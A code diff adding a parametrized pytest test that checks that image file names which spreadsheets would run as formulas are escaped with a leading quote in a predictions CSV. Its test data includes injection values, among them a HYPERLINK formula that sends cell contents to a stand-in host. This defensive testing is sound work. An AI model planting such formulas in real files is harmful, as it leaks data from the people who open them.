@@ -284,3 +284,16 @@ def test_names_are_printed_escaped_and_csv_rows_are_whole(tmp_path: Path, capsys
     with (tmp_path / "predictions.csv").open(newline="") as file:
         table = list(csv.reader(file))
     assert [len(row) for row in table] == [14] * 4 and [row[0] for row in table[1:]] == names
+
+
+SPREADSHEET_FORMULAS = ['=HYPERLINK("http://x/?"&A1;"y").png', "+1.png", "-1+2.png", "@SUM(A1).png", "\t=1.png"]
+
+
+@pytest.mark.parametrize("name", SPREADSHEET_FORMULAS)
+def test_a_file_name_that_a_spreadsheet_would_run_is_written_to_the_csv_as_text(name: str, tmp_path: Path) -> None:
+    """A picture found by inputs='*.png' keeps the name it came with: in predictions.csv it was a formula."""
+    write_predictions([Prediction(name, 3, 0.9, "ok", [0.1] * 10), Prediction("/data/=1.png", 1, 0.9, "ok")], tmp_path)
+    with (tmp_path / "predictions.csv").open(newline="") as file:
+        files = [row["file"] for row in csv.DictReader(file)]
+    assert files == ["'" + name, "/data/=1.png"]
+    assert json.loads((tmp_path / "predictions.json").read_text())[0]["file"] == name
